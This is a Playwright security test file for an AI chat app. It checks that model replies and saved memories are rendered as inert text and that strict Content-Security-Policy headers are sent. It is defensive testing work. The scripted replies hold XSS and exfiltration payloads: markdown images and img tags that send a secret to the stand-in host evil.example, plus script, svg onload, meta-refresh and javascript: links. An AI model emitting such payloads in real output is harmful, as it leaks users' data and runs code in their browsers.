import { expect, type Page } from '@playwright/test';
import { type AppServer, startAppServer } from './fixtures/app-server';
import { type ModelServer, startModelServer } from './fixtures/model-server';
import { sendIn } from './fixtures/pages';
import { test } from './fixtures/shared-app';
import { type PageWatch, untilIdle, watchPage } from './fixtures/watch-page';

let app: AppServer;
let model: ModelServer;
let page: Page;
let watch: PageWatch;

const ELSEWHERE = 'https://evil.example';
const NOTHING: PageWatch = { violations: [], strangers: [], dialogs: [] };

test.beforeAll(async ({ browser }) => {
  model = await startModelServer();
  app = await startAppServer({ OPENAI_BASE_URL: model.baseUrl, KEEPSAKE_CHAT_MODEL: 'scripted-chat' });
  page = await browser.newPage();
  watch = await watchPage(page, app.url);
  // The first registered account becomes the administrator.
  await page.goto(`${app.url}/sign-in`);
  const { ok } = await page.evaluate(async () => {
    const body = JSON.stringify({
      name: 'Sam',
      email: 'sam@example.org',
      password: 'a long enough password',
    });
    const headers = { 'content-type': 'application/json' };
    const response = await fetch('/api/auth/sign-up/email', { method: 'POST', headers, body });
    return { ok: response.ok };
  });
  expect(ok).toBe(true);
});
test.afterAll(async () => {
  await page.close();
  await app.stop();
  await model.close();
});

const say = (text: string) => sendIn(page, text);

test('a reply cannot run a script, load an image from elsewhere or hide the target of a link', async () => {
  const secret = 'the-persons-secret';
  model.on(
    { task: 'chat' },
    {
      name: 'text',
      text: [
        'Before the attack.',
        `![a picture](${ELSEWHERE}/p.png?q=${secret})`,
        `![by reference][pixel]`,
        `<img src="${ELSEWHERE}/i.png?q=${secret}" onerror="alert(1)">`,
        `<script>alert(2)</script><script src="${ELSEWHERE}/s.js"></script>`,
        `<iframe src="${ELSEWHERE}/f"></iframe><object data="${ELSEWHERE}/o"></object>`,
        `<svg onload="alert(3)"><image href="${ELSEWHERE}/v.png"/></svg>`,
        `<picture><source srcset="${ELSEWHERE}/w.png"><img src="x"></picture>`,
        `<video src="${ELSEWHERE}/m.mp4" poster="${ELSEWHERE}/m.png" autoplay></video>`,
        `<link rel="stylesheet" href="${ELSEWHERE}/c.css"><style>@import url(${ELSEWHERE}/d.css);</style>`,
        `<p style="background:url(${ELSEWHERE}/b.png)">styled</p>`,
        `<form action="${ELSEWHERE}/post"><button>send</button></form>`,
        `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/r"><base href="${ELSEWHERE}/">`,
        '[a link](javascript:alert(4)) and [another](data:text/html,<script>alert(5)</script>)',
        `[a plain link](${ELSEWHERE}/plain)`,
        'After the attack.',
        '',
        `[pixel]: ${ELSEWHERE}/ref.png`,
      ].join('\n\n'),
    },
  );
  await page.goto(app.url);
  await say('What do you think of owls?');
  await expect(page.getByText('After the attack.', { exact: true })).toBeVisible();
  const id = page.url().split('/').at(-1);
  // Once while it streams, once as the stored conversation.
  for (const visit of ['streamed', 'stored']) {
    if (visit === 'stored') await page.goto(`${app.url}/c/${id}`);
    await expect(page.getByText('After the attack.', { exact: true })).toBeVisible();
    const reply = page.getByRole('article').filter({ hasText: 'After the attack.' });
    const forbidden =
      'script, iframe, object, embed, svg image, video, link, style, form, meta, base, img, source';
    const found = await reply.locator(forbidden).evaluateAll((all) => all.map((one) => one.outerHTML));
    expect(found, visit).toEqual([]);
    const links = await reply.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    expect(
      links.filter((href) => href !== null && !href.startsWith('https://')),
      visit,
    ).toEqual([]);
    await expect(reply.locator(`a[href="${ELSEWHERE}/plain"]`)).toHaveAttribute('rel', /noopener/);
  }
  expect(watch).toEqual(NOTHING);
});

test('a memory is only text, wherever it is shown', async () => {
  model.on({ task: 'chat' }, { name: 'text', text: 'I see.' });
  await page.goto(app.url);
  await say(
    `Remember that I love ![owls](${ELSEWHERE}/m.png?q=1) <img src="${ELSEWHERE}/n.png" onerror="alert(6)">`,
  );
  await expect(page.getByRole('heading', { name: 'I will remember' })).toBeVisible();
  const chat = page.url().replace(app.url, '');
  for (const path of ['/profile', '/profile/why-not', chat]) {
    await page.goto(app.url + path);
    if (path === '/profile/why-not') await page.getByLabel('Also show what was kept').click();
    await expect(page.getByText(/I love/).first()).toBeVisible();
    await expect(page.locator(`img[src*="evil.example"]`)).toHaveCount(0);
  }
  expect(watch).toEqual(NOTHING);
});

test('dialogs, menus and toasts comply with the policy too', async () => {
  await page.goto(`${app.url}/profile`);
  await page.keyboard.press('Control+k');
  await untilIdle(page);
  await page.keyboard.press('Escape');
  await page.goto(`${app.url}/settings`);
  for (const role of ['combobox', 'switch'] as const) {
    const control = page.getByRole(role).first();
    if (!(await control.count())) continue;
    await control.click();
    await untilIdle(page);
    await page.keyboard.press('Escape');
  }
  await page.goto(`${app.url}/admin/replays`);
  await page.getByLabel('Decided by').click();
  await expect(page.getByRole('option', { name: 'The built-in engine' })).toBeVisible();
  expect(watch).toEqual(NOTHING);
});

test('each response carries its security headers', async () => {
  const [first, second] = await Promise.all([page.request.get(app.url), page.request.get(app.url)]);
  const policy = (response: typeof first) => response.headers()['content-security-policy'] ?? '';
  const nonce = (response: typeof first) => /'nonce-([^']+)'/.exec(policy(response))?.[1];
  expect(nonce(first)).toHaveLength(24);
  expect(nonce(first)).not.toBe(nonce(second));
  const [, script = ''] = /script-src ([^;]*)/.exec(policy(first)) ?? [];
  expect(script).not.toMatch(/unsafe|https?:|\*/);
  for (const part of [
    "default-src 'none'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "connect-src 'self'",
    "img-src 'self' data:",
    "object-src 'none'",
  ])
    expect(policy(first)).toContain(part);
  for (const path of ['/', '/sign-in', '/api/health', '/api/memory', '/icon.svg']) {
    const headers = (await page.request.get(app.url + path)).headers();
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'same-origin',
      'cross-origin-opener-policy': 'same-origin',
    });
    expect(headers['permissions-policy'], path).toContain('camera=()');
    expect(headers['x-powered-by'], path).toBeUndefined();
  }
  expect((await page.request.get(`${app.url}/api/memory`)).headers()['content-security-policy']).toContain(
    "default-src 'none'",
  );
});
